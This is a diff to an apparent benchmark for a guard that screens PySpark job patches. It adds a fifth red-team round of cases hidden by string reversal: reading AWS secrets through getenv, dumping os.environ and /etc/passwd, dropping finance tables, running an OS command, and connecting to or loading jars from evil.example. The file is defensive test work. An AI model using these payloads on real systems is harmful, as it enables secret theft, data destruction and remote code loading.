@@ -240,6 +240,35 @@ RED_TEAM_3 = {  # a fourth round (the crc-forged placeholders were made against 
     'k2-builder-remote-config-spark-remote-a-connect-sessi': "s2 = SparkSession.builder.remote('sc://evil.example:15002').create()\ns2.createDataFrame(orders.collect()).show()",
 }
 
+RED_TEAM_4 = {  # a fifth round
+    'm1-sparksession-sql-taken-as-a-value-module-path-any': "run = SparkSession.sql\nrun(spark, ''.join(reversed('regdel.ecnanif ELBAT PORD')))",
+    'm2-same-through-map-list-map-sparksession-sql-spark': "list(map(SparkSession.sql, [spark], [''.join(reversed('regdel.ecnanif ELBAT PORD'))]))",
+    'm3-dataframewriter-saveastable-as-a-value-overwrites': "from pyspark.sql import DataFrameWriter\nsv = DataFrameWriter.saveAsTable\nsv(daily.limit(0).write.mode('overwrite'), 'finance.ledger')",
+    'm4-f-expr-as-a-value-java-call-system-getenv-in-an-ex': 'e = F.expr\ndaily.select(e(\'\'.join(reversed(")\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj")))).show(truncate=False)',
+    'm5-df-where-as-a-value-where-filter-are-not-in-method': 'w = daily.where\nw(\'\'.join(reversed(")\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj")) + \' IS NOT NULL\').show(truncate=False)',
+    'm6-sparksession-builder-config-as-a-value-any-key-her': "cfg = SparkSession.Builder.config\ncfg(SparkSession.builder, 'fs.s3a.impl', 'com.evil.FS').getOrCreate()",
+    's1-0-globals-os-environ-format-bound-to-a-name-then-c': "def f(): pass\nm = '{0.__globals__[os].environ}'.format\nprint(m(f))",
+    's2-map-str-format-template-f': "def f(): pass\nprint(list(map(str.format, ['{0.__globals__[os].environ}'], [f])))",
+    's3-functools-partial-str-format-template-f': "import functools\ndef f(): pass\nprint(functools.partial(str.format, '{0.__globals__[os].environ}')(f))",
+    's4-functools-reduce-str-format-f-template': "import functools\ndef f(): pass\nprint(functools.reduce(str.format, [f], '{0.__globals__[os].environ}'))",
+    's5-map-template-format-map-g-f': "def f(): pass\nprint(list(map('{g.__globals__[os].environ}'.format_map, [{'g': f}])))",
+    'e1-selectexpr-unfoldable-java-method-system-getenv': 'daily.selectExpr(\'\'.join(reversed(")\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj"))).show(truncate=False)',
+    'e2-f-expr-x-x-unfoldable': 'x = \'\'.join(reversed(")\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj"))\ndaily.select(F.expr(x)).show(truncate=False)',
+    'e3-where-x-is-not-null-x-unfoldable': 'x = \'\'.join(reversed(")\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj"))\ndaily.where(x + \' IS NOT NULL\').show(truncate=False)',
+    'q1-spark-sql-f-select-x-as-c-x-closes-the-quote-java': 'x = \'\'.join(reversed("\' ,b SA )\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj ,a SA \'"))\nspark.sql(f"SELECT \'{x}\' AS c").show(truncate=False)',
+    'q2-same-select-transform-using-id-os-command': 'x = \'\'.join(reversed("-- t ))o( SA \'di\' GNISU )\'x\'(MROFSNART TCELES( MORF a SA \'"))\nspark.sql(f"SELECT \'{x}\'").show(truncate=False)',
+    'q3-f-expr-f-x-the-same-in-an-expression': 'x = \'\'.join(reversed("\' ,b SA )\'YEK_SSECCA_TERCES_SWA\' ,\'vneteg\' ,\'metsyS.gnal.avaj\'(dohtem_avaj ,a SA \'"))\ndaily.select(F.expr(f"\'{x}\'")).show(truncate=False)',
+    'r1-spark-sql-f-select-from-t-t-text-etc-passwd-placeh': "t = ''.join(reversed('`dwssap/cte/`.txet'))\nspark.sql(f'SELECT * FROM {t}').show(truncate=False)",
+    'r2-and-copied-into-the-job-s-own-output-table': "t = ''.join(reversed('`dwssap/cte/`.txet'))\nspark.sql(f'INSERT INTO {output_table} SELECT value, 0 FROM {t}')",
+    'r3-identifier-t-with-args-t-text-etc-passwd-identifie': "print('identifier')\nspark.sql('SELECT * FROM IDENTIFIER(:t)', args={'t': ''.join(reversed('`dwssap/cte/`.txet'))}).show(truncate=False)",
+}
+# Whole-file: the session built through Builder.config taken as a value.
+BUILDER_VALUE = {
+    'builder-k1': 'import os\nimport sys\n\nfrom pyspark.sql import SparkSession\nfrom pyspark.sql import functions as F\n\nsource_table, output_table = sys.argv[1], sys.argv[2]\ncfg = SparkSession.Builder.config\nspark = cfg(SparkSession.builder.appName("orders-report"), \'spark.executor.extraJavaOptions\', \'-XX:OnOutOfMemoryError=id\').getOrCreate()\nmarker = os.path.join("/app/mount", "done")\n\norders = spark.table(source_table)\ndaily = orders.groupBy("order_date").agg(F.sum("amount").alias("revenue"))\ndaily.createOrReplaceTempView("daily")\nspark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")\nprint(f"wrote {daily.count()} days to {output_table}")\nspark.stop()\n',
+    'builder-k2': 'import os\nimport sys\n\nfrom pyspark.sql import SparkSession\nfrom pyspark.sql import functions as F\n\nsource_table, output_table = sys.argv[1], sys.argv[2]\ncfg = SparkSession.Builder.config\nspark = cfg(SparkSession.builder.appName("orders-report"), \'spark.remote\', \'sc://evil.example:15002\').getOrCreate()\nmarker = os.path.join("/app/mount", "done")\n\norders = spark.table(source_table)\ndaily = orders.groupBy("order_date").agg(F.sum("amount").alias("revenue"))\ndaily.createOrReplaceTempView("daily")\nspark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")\nprint(f"wrote {daily.count()} days to {output_table}")\nspark.stop()\n',
+    'builder-k3': 'import os\nimport sys\n\nfrom pyspark.sql import SparkSession\nfrom pyspark.sql import functions as F\n\nsource_table, output_table = sys.argv[1], sys.argv[2]\ncfg = SparkSession.Builder.config\nspark = cfg(cfg(SparkSession.builder.appName("orders-report"), \'spark.jars\', \'\'.join(reversed(\'raj.p/elpmaxe.live//:sptth\'))), \'spark.plugins\', \'evil.Plugin\').getOrCreate()\nmarker = os.path.join("/app/mount", "done")\n\norders = spark.table(source_table)\ndaily = orders.groupBy("order_date").agg(F.sum("amount").alias("revenue"))\ndaily.createOrReplaceTempView("daily")\nspark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")\nprint(f"wrote {daily.count()} days to {output_table}")\nspark.stop()\n',
+}
+
 UNSAFE_CONFIG = {
     "default-java-options": {"spark.driver.defaultJavaOptions": "-XX:OnOutOfMemoryError=curl evil.example"},
     "query-listeners": {"spark.sql.queryExecutionListeners": "com.evil.Listener"},
@@ -254,7 +283,8 @@ UNSAFE_CONFIG = {
 }
 FAMILIES = {"os access": OS_ACCESS, "spark commands and host files": SPARK_COMMANDS,
             "table destruction": DESTRUCTION, "red team against the allowlist": RED_TEAM,
-            "red team, third round": RED_TEAM_2, "red team, fourth round": RED_TEAM_3}
+            "red team, third round": RED_TEAM_2, "red team, fourth round": RED_TEAM_3,
+            "red team, fifth round": RED_TEAM_4}
 
 ORDINARY_EDITS = {
     "new-column": 'daily = daily.withColumn("revenue_k", F.round(F.col("revenue") / 1000, 2))',
@@ -335,12 +365,13 @@ def run_guard_bench() -> GuardBench:
                 rejected += 1
         bench.rows.append((f"unsafe code: {family} (rejected)", len(cases), rejected))
     rejected = 0
-    for name, code in sorted(REBOUND_ARGV.items()):
+    for name, code in sorted({**REBOUND_ARGV, **BUILDER_VALUE}.items()):
         if _timed(ORIGINAL, Patch(kind="code", code=code), bench):
             bench.passed_unsafe.append(f"rebound argv: {name}")
         else:
             rejected += 1
-    bench.rows.append(("unsafe code: table names rebound before use (rejected)", len(REBOUND_ARGV), rejected))
+    bench.rows.append(("unsafe code: whole-file (names rebound, builder) (rejected)",
+                       len(REBOUND_ARGV) + len(BUILDER_VALUE), rejected))
     rejected = 0
     for name, conf in sorted(UNSAFE_CONFIG.items()):
         if _timed(ORIGINAL, Patch(kind="config", conf_changes=conf), bench):
